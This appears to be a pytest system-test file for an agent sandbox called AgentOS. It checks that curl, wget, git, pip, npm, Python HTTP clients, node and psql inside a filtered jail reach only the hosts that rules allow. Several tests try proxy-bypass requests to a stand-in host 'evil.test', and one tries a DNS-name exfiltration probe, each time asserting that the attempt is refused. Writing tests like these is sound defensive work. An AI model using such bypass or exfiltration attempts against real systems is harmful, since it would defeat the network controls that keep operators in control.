"""Programs that know nothing of AgentOS, in a jail with a filtered network, reach what rules grant and no more."""

import importlib.util
import os
import shutil
import sys
from collections.abc import Iterator

import pytest

from agentos_sdk import AgentOSClient
from tests.support.kernel import Kernel, shared
from tests.system.agents import up
from tests.system.sites import Sites

TOML = """
[http]
resolver = "{sites.dns}"

[permissions.web]
level = "sandboxed"
[permissions.web.allow]
domains = [
  "files.test:{sites.https}", "files.test:{sites.http}", "db.test:{sites.postgres}",
  "127.0.0.1:{sites.https}", "127.0.0.1:{sites.http}", "127.0.0.1:{sites.postgres}",
]
"""
VARIABLES = ("SSL_CERT_FILE", "GIT_SSL_CAINFO", "PIP_CERT", "REQUESTS_CA_BUNDLE", "NODE_EXTRA_CA_CERTS")
TRUST = dict.fromkeys(VARIABLES, "/agent/ca.pem")
IGNORE_PROXY = "env -u http_proxy -u HTTP_PROXY -u https_proxy -u HTTPS_PROXY -u all_proxy -u ALL_PROXY"
REFUSED = "no rule of permissions.web allows it"


@pytest.fixture(scope="module")
def kernel(kernels: None, sites: Sites) -> Iterator[Kernel]:
    with shared(TOML.format(sites=sites)) as started:
        yield started


@pytest.fixture(scope="module")
def run(kernel: Kernel, sites: Sites) -> Iterator["Run"]:
    command = ["sleep", "1000"]
    with kernel.client() as client:
        up(client.spawn("web", command=command, code=str(sites.ca), network="filtered", permissions="web", env=TRUST))
        yield Run(client, sites)


class Run:
    """Runs shell lines in the jail; ``{http}`` and ``{https}`` are the origins that rules grant."""

    def __init__(self, client: AgentOSClient, sites: Sites) -> None:
        self._client, self._sites = client, sites

    def __call__(self, line: str) -> tuple[int, str]:
        """Exit status and output."""
        sites = self._sites
        origins = {"http": f"http://files.test:{sites.http}", "https": f"https://files.test:{sites.https}"}
        for name, text in {**origins, "evil": f"evil.test:{sites.https}", "db": str(sites.postgres)}.items():
            line = line.replace(f"{{{name}}}", text)
        reply = up(self._client.exec(f"cd /workspace; exec 2>&1; {line}", name="web", timeout=120))
        return reply["exit_code"], reply["stdout"]


def need(program: str) -> None:
    if shutil.which(program, path="/usr/bin:/bin") is None:
        give_up(f"{program} isn't installed in /usr/bin: NOT tested with a filtered network")


def need_module(name: str) -> None:
    if importlib.util.find_spec(name) is None:
        give_up(f"{name} isn't installed: NOT tested with a filtered network")


def give_up(why: str) -> None:
    if "AGENTOS_MUST_SANDBOX" in os.environ:
        pytest.fail(why)
    pytest.skip(why)


@pytest.mark.parametrize("origin", ["{http}", "{https}"])
@pytest.mark.parametrize("before", ["", IGNORE_PROXY])
def test_curl(run: Run, origin: str, before: str) -> None:
    need("curl")

    assert run(f"{before} curl -sS {origin}/hello.txt") == (0, "hello\n")
    assert run(f"{before} curl -sS {origin}/large.bin | wc -c") == (0, f"{1 << 20}\n")
    assert run(f"{before} curl -sS -d posted {origin}/") == (0, "posted")


def test_curl_refused(run: Run) -> None:
    need("curl")

    status, said = run("curl -sS http://{evil}/hello.txt")
    assert (status, REFUSED in said, 'This rule would: domains = ["GET evil.test' in said) == (0, True, True), said
    assert run("curl -sS https://{evil}/") == (56, "curl: (56) CONNECT tunnel failed, response 403\n")
    assert REFUSED in run("curl -sv https://{evil}/")[1]
    assert run(f"{IGNORE_PROXY} curl -sS https://{{evil}}/") == (6, "curl: (6) Could not resolve host: evil.test\n")
    assert run(f"{IGNORE_PROXY} curl -sS --connect-timeout 5 https://1.1.1.1/")[0] == 7


@pytest.mark.parametrize("before", ["", IGNORE_PROXY])
def test_wget(run: Run, before: str) -> None:
    need("wget")

    assert run(f"{before} wget -qO- --ca-certificate=/agent/ca.pem {{https}}/hello.txt") == (0, "hello\n")
    status, said = run(f"{before} wget -O- https://{{evil}}/hello.txt")
    assert status != 0
    assert (REFUSED if not before else "evil.test") in said


@pytest.mark.parametrize("before", ["", IGNORE_PROXY])
@pytest.mark.parametrize("origin", ["{http}", "{https}"])
def test_git_clone(run: Run, before: str, origin: str) -> None:
    need("git")

    status, said = run(f"rm -rf repo; {before} git clone -q {origin}/repo.git repo && cat repo/README")
    assert (status, said) == (0, "cloned\n")
    if origin == "{https}":
        status, said = run(f"{before} git clone https://{{evil}}/repo.git other")
        assert status == 128
        assert ("response 403" if not before else "Could not resolve host") in said


def test_pip_install(run: Run) -> None:
    options = "-vv --disable-pip-version-check --no-cache-dir --retries 0 --target /workspace/lib"
    pip = f"{sys.executable} -m pip install {options}"

    status, said = run(f"{pip} --index-url {{https}}/simple/ tinywheel && PYTHONPATH=lib python -c 'import tinywheel'")
    assert (status, said.splitlines()[-1]) == (0, "installed"), said
    status, said = run(f"{pip} --index-url https://{{evil}}/simple/ tinywheel")
    assert status == 1
    assert "403 Forbidden by AgentOS: " in said, said


def test_npm_install(run: Run) -> None:
    need("npm")
    npm = "HOME=/workspace npm --no-audit --no-fund --fetch-retries=0 --no-update-notifier install"

    status, said = run(f"{npm} --cafile=/agent/ca.pem --registry={{https}}/ tinypkg && node -e 'require(\"tinypkg\")'")
    assert (status, said.splitlines()[-1]) == (0, "installed"), said
    status, said = run(f"{npm} --registry=https://{{evil}}/ otherpkg")
    assert status != 0
    assert "403" in said, said


CLIENTS = {  # what fetches ``url``
    "requests": "import requests\ndef get(url): return requests.get(url).text",
    "httpx": "import httpx\ndef get(url): return httpx.get(url).text",
    "urllib": "import urllib.request\ndef get(url): return urllib.request.urlopen(url).read().decode()",
    "aiohttp": (
        "import aiohttp, asyncio\ndef get(url): return asyncio.run(fetch(url))\nasync def fetch(url):\n"
        " async with aiohttp.ClientSession(trust_env=True) as one, one.get(url) as reply: return await reply.text()"
    ),
}
FETCH = """
{get}
import sys
for url in sys.argv[1:]:
    print(get(url), end="", flush=True)
"""


@pytest.mark.parametrize("name", CLIENTS)
def test_python(run: Run, name: str) -> None:
    need_module(name)

    for before in ("", IGNORE_PROXY):
        code = FETCH.replace("{get}", CLIENTS[name])
        urls = "{http}/hello.txt {https}/hello.txt https://{evil}/"
        status, said = run(f"{before} {sys.executable} -c '{code}' {urls}")
        assert (status, said.startswith("hello\nhello\n")) == (1, True), said
        assert ("403" if not before else "Name or service not known") in said, said


def test_fetch_of_node(run: Run) -> None:
    """It knows no proxy."""
    need("node")
    code = "fetch(process.argv[1]).then(r => r.text()).then(t => process.stdout.write(t))"

    assert run(f"node -e '{code}' {{http}}/hello.txt") == (0, "hello\n")
    assert run(f"node -e '{code}' {{https}}/hello.txt") == (0, "hello\n")
    status, said = run(f"node -e '{code}' https://{{evil}}/hello.txt")
    assert (status, "ENOTFOUND evil.test" in said) == (1, True), said


def test_psql(run: Run) -> None:
    """It knows no proxy, and speaks its own protocol."""
    need("psql")

    assert run("psql -h db.test -p {db} -U me -Atc 'select 1' db") == (0, "it works\n")
    status, said = run("psql -h evil.test -p {db} -U me -Atc 'select 1' db")
    assert (status, 'could not translate host name "evil.test"' in said) == (2, True), said


def test_names_that_no_rule_grants_are_not_asked_of_any_server(run: Run, sites: Sites) -> None:
    run("getent hosts evil.test; getent hosts secret-in-a-name.evil.test; curl -s https://evil.test/")
    run("curl -s {https}/hello.txt")

    assert "files.test" in sites.asked
    assert not [name for name in sites.asked if "evil" in name]
